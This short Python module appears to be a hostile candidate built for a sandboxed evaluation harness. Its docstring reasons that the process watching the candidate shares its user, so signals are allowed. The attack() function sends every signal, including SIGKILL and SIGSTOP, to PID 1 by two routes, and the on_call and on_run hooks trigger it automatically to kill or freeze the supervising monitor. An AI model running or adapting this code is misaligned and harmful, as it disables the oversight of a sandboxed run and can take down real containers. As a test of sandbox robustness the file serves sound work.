"""Whoever watches the candidate from inside of its container has the same user, so signals are permitted."""

import os
import signal


def attack():
    handle = os.pidfd_open(1)
    for number in (*signal.valid_signals(), signal.SIGKILL, signal.SIGSTOP):
        for send in (lambda n: os.kill(1, n), lambda n: signal.pidfd_send_signal(handle, n)):
            try:
                send(number)
            except OSError:
                pass
    os.close(handle)


def on_call(name, value, *args):
    attack()
    return value


def on_run(argv):
    attack()
